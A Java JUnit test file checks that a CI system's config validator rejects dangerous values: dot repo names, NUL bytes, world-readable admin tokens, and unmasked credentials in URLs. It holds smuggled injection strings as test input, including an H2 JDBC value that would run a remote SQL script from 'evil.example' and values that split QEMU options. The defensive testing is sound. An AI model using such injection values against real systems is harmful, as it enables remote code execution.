package org.ktestci.schema.config;

import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Config values that would reach a URL, an option list or a directory name on workers (issue 12 item 6). */
class ConfigSecurityTest extends ConfigFixtureTest {
    @Test
    void repoNamesDotAndDotDotAreRefusedWithTheirPosition() throws Exception {
        f.coordinatorLayout();
        ConfigFixture.gitRepo(dir.resolve("other"), false);
        String toml = ConfigFixture.COORDINATOR_TOP + """
                [repos."."]
                path = "other"
                url = "https://example.org/a.git"
                [repos.".."]
                path = "other"
                url = "https://example.org/b.git"
                """;
        assertEquals(List.of(
                f.err(6, 1, "repos.\".\"", "repo name must not be \".\" or \"..\""),
                f.err(9, 1, "repos.\"..\"", "repo name must not be \".\" or \"..\"")),
                f.errors(toml, ConfigRole.COORDINATOR));
    }

    @Test
    void aStateDirThatWouldInjectH2UrlSettingsIsRefused() throws Exception {
        f.coordinatorLayout();
        String toml = "state_dir = \"state;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'\"\n"
                + ConfigFixture.COORDINATOR_TOP;
        List<String> errors = f.errors(toml, ConfigRole.COORDINATOR);
        assertEquals(1, errors.size(), errors.toString());
        assertTrue(errors.get(0).startsWith(f.err(1, 1, "state_dir",
                "must not contain ';' (it would end the journal's H2 JDBC URL), got \"")), errors.get(0));
    }

    @Test
    void anH2FileWithASemicolonOrAWorkspaceWithACommaIsRefused() throws Exception {
        f.coordinatorLayout();
        String toml = ConfigFixture.COORDINATOR_TOP + """
                [persistence]
                h2_file = "/var/lib/j;TRACE_LEVEL_SYSTEM_OUT=3"
                [worker]
                workspace = "/var/lib/w,readonly=on"
                """;
        List<String> errors = f.errors(toml, ConfigRole.COORDINATOR);
        assertEquals(List.of(
                f.err(7, 1, "persistence.h2_file", "must not contain ';' (it would end the journal's H2 JDBC URL), "
                        + "got \"/var/lib/j;TRACE_LEVEL_SYSTEM_OUT=3\""),
                f.err(9, 1, "worker.workspace", "must not contain ',' (it would split a QEMU option list), "
                        + "got \"/var/lib/w,readonly=on\"")), errors);
    }

    @Test
    void aPathWithANulIsAnErrorNotACrash() throws Exception {
        f.coordinatorLayout();
        List<String> errors = f.errors("state_dir = \"a\\u0000b\"\n" + ConfigFixture.COORDINATOR_TOP,
                ConfigRole.COORDINATOR);
        assertEquals(1, errors.size(), errors.toString());
        assertTrue(errors.get(0).startsWith(f.err(1, 1, "state_dir", "not a valid path: ")), errors.get(0));
    }

    @Test
    void aFetchPathWithANulIsAnErrorNotACrash() throws Exception {
        f.coordinatorLayout("a.ktest");
        String toml = ConfigFixture.COORDINATOR_TOP + """
                [test_group.g]
                tests = ["a.ktest"]
                [branch.main]
                fetch = "up\\u0000stream main"
                test_groups = ["g"]
                """;
        List<String> errors = f.errors(toml, ConfigRole.COORDINATOR);
        assertEquals(1, errors.size(), errors.toString());
        assertTrue(errors.get(0).startsWith(f.err(9, 1, "branch.main.fetch", "")), errors.get(0));
    }

    /** Config errors are logged and served (/api/v1/queue config_errors): a rejected URL's secret stays out. */
    @Test
    void credentialsInRejectedValuesAreMasked() throws Exception {
        f.coordinatorLayout("a.ktest");
        String toml = ConfigFixture.COORDINATOR_TOP + """
                [test_group.g]
                tests = ["a.ktest"]
                [branch.main]
                fetch = "https://ghp_SecretToken123@git.example.org/r.git main extra"
                test_groups = ["g"]
                [branch.other]
                fetch = "http://bob:p@ss/w0rd@git.example.org/r.git main"
                test_groups = ["g"]
                """;
        assertEquals(List.of(
                f.err(9, 1, "branch.main.fetch", "must be exactly \"<remote-url> <ref>\", got "
                        + "\"https://***@git.example.org/r.git main extra\""),
                f.err(12, 1, "branch.other.fetch", "URL must be https://, git://, ssh://, file:// or a path, got "
                        + "\"http://***@git.example.org/r.git\"")), f.errors(toml, ConfigRole.COORDINATOR));
    }

    @Test
    void theAdminTokenRulesAreTheSameAtEveryRead() throws Exception {
        Path token = dir.resolve("admin.token");
        Files.writeString(token, "x".repeat(AdminTokenFile.MIN_LENGTH) + "\n");
        Files.setPosixFilePermissions(token, PosixFilePermissions.fromString("rw-------"));
        assertEquals("x".repeat(32), AdminTokenFile.read(token));
        Files.setPosixFilePermissions(token, PosixFilePermissions.fromString("rw-r--r--"));
        assertEquals("must not be world-readable: " + token,
                assertThrows(AdminTokenFile.Problem.class, () -> AdminTokenFile.read(token)).getMessage());
        Files.setPosixFilePermissions(token, PosixFilePermissions.fromString("rw-------"));
        Files.writeString(token, "short\n");
        assertEquals("token must be at least 32 characters: " + token,
                assertThrows(AdminTokenFile.Problem.class, () -> AdminTokenFile.read(token)).getMessage());
        Files.delete(token);
        assertEquals("file not found: " + token,
                assertThrows(AdminTokenFile.Problem.class, () -> AdminTokenFile.read(token)).getMessage());
    }
}
